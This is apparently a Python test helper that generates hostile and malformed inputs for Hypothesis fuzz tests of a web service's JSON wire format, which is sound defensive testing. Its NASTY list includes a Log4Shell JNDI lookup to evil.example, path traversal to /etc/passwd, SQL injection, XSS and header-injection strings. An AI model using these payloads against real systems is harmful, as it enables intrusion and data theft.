"""Hostile values for hypothesis: from JSON schemas and beside them, as bytes that a library would never send."""

from __future__ import annotations

import json
from typing import Any

from hypothesis import strategies as st
from hypothesis.strategies import SearchStrategy

from web.wire.catalogue import adapter

#: Pieces of text that break parsers, screens, files, queries and pages.
NASTY = (
    "",
    " ",
    "\0",
    "\x1b[2J",
    "\r\nSet-Cookie: a=b",
    "../../../etc/passwd",
    "C:\\CON",
    "'; DROP TABLE student; --",
    "%s%n%x",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\u202eevil",
    "\u200b",
    "e" + "\u0301" * 200,
    "👩‍👩‍👧‍👦" * 50,
    "\U000e0041",
    "ﷺ" * 100,
    "ß",
    "İ",
    "\ufeff",
    "\uffff",
    "\U0010ffff",
    "*",
    "__proto__",
    "constructor",
    "null",
    "NaN",
    "1e999",
    "-0",
    "\ud800",
    "\udc00\ud800",
    "s-" + "0" * 32,
    "a" * 65,
    "a" * 300,
)
NUMBERS: tuple[Any, ...] = (
    0,
    -1,
    1,
    2**31,
    2**53,
    2**53 + 1,
    2**63,
    2**64,
    -(2**63),
    10**400,
    0.5,
    1.0,
    -0.0,
    1e308,
    -1e-320,
    True,
    False,
)
text = st.one_of(st.sampled_from(NASTY), st.text(max_size=20))
scalar = st.one_of(st.none(), st.booleans(), st.sampled_from(NUMBERS), st.integers(), st.floats(), text)
anything = st.recursive(
    scalar, lambda inner: st.one_of(st.lists(inner, max_size=4), st.dictionaries(text, inner, max_size=4)), max_leaves=8
)


def near(kind: Any, likely: dict[str, SearchStrategy[Any]] | None = None) -> SearchStrategy[Any]:
    """Values that resemble what this class of the wire takes, most of them wrong in one place or another. `likely`:
    fields that are mostly to be right, so that something comes behind the first check."""
    schema = adapter(kind).json_schema()
    return _near(schema, schema.get("$defs", {}), likely or {})


def _near(schema: dict[str, Any], defs: dict[str, Any], likely: dict[str, SearchStrategy[Any]]) -> SearchStrategy[Any]:
    if "$ref" in schema:
        return _near(defs[schema["$ref"].rsplit("/", 1)[-1]], defs, likely)
    if "properties" in schema:
        fields = {
            name: likely[name] if name in likely else _mostly(_near(inner, defs, likely))
            for name, inner in schema["properties"].items()
        }
        needed = {name: fields[name] for name in schema.get("required", ())}
        others = {name: value for name, value in fields.items() if name not in needed}
        whole = st.fixed_dictionaries(needed, optional=others)
        part = st.fixed_dictionaries({}, optional=fields)
        more = st.dictionaries(text, anything, max_size=3)
        return st.one_of(whole, whole, whole, part, st.tuples(whole, more).map(lambda two: {**two[0], **two[1]}))
    return _plain(schema, defs, likely)


def _plain(schema: dict[str, Any], defs: dict[str, Any], likely: dict[str, Any]) -> SearchStrategy[Any]:
    for union in ("anyOf", "oneOf"):
        if union in schema:
            return st.one_of([_near(each, defs, likely) for each in schema[union]])
    if "const" in schema or "enum" in schema:
        return st.sampled_from(schema.get("enum") or [schema["const"]])
    match schema.get("type"):
        case "integer" | "number":
            low = schema.get("minimum", 0)
            return st.integers(low, min(schema.get("maximum", 100), low + 100))
        case "array":
            return st.lists(_near(schema.get("items", {}), defs, likely), max_size=4)
        case "boolean":
            return st.booleans()
        case "string" if "pattern" in schema and "A-Za-z0-9" in schema["pattern"]:
            return st.from_regex(r"\A[A-Za-z0-9_.:\-]{1,12}\Z")
        case "string":
            return text
    return anything


def _mostly(good: SearchStrategy[Any]) -> SearchStrategy[Any]:
    return st.one_of(good, good, good, good, anything)


def _dumped(value: Any) -> bytes:
    return json.dumps(value).encode()


def _raw(value: Any) -> bytes:
    """Not escaped: half characters become bytes that are no UTF-8."""
    return json.dumps(value, ensure_ascii=False).encode("utf-8", "surrogatepass")


def _twice(value: Any) -> bytes:
    """Each key a second time, with another value."""
    if not isinstance(value, dict) or not value:
        return _dumped(value)
    inner = ", ".join(f"{json.dumps(key)}: {json.dumps(each)}, {json.dumps(key)}: null" for key, each in value.items())
    return b"{" + inner.encode() + b"}"


#: What is no JSON, or more of it than anybody wants.
NO_JSON = (
    b"",
    b"\0",
    b"{",
    b'{"a":',
    b"[" * 20_000,
    b'{"a":' * 10_000,
    b"\xff\xfe\x00",
    b"\xed\xa0\x80",
    b"\xc0\x80",
    b"nul",
    b"{'a': 1}",
    b'{"a": 01}',
    b'{"a": NaN}',
    b"-Infinity",
    b'"\\ud800"',
    b'{"\\ud800": 1}',
    b"9" * 5_000,
    b"[1e99999]",
    b"\xef\xbb\xbf{}",
    b"{} {}",
    b"[" + b"0," * 10_000 + b"0]",
    b" " * 60_000,
    b"\x80\x04\x95",
    b"<xml/>",
)


def as_bytes(value: SearchStrategy[Any]) -> SearchStrategy[bytes]:
    """The value as JSON, well and badly written, cut off, or something else altogether."""
    good = value.map(_dumped)
    cut = st.tuples(good, st.integers(0, 40)).map(lambda two: two[0][: max(0, len(two[0]) - two[1])])
    flipped = st.tuples(good, st.integers(0, 2_000), st.integers(0, 255)).map(_flip)
    return st.one_of(good, good, good, value.map(_raw), value.map(_twice), cut, flipped, st.sampled_from(NO_JSON))


def _flip(three: tuple[bytes, int, int]) -> bytes:
    data, place, value = three
    return data[: place % (len(data) + 1)] + bytes([value]) + data[place % (len(data) + 1) + 1 :]
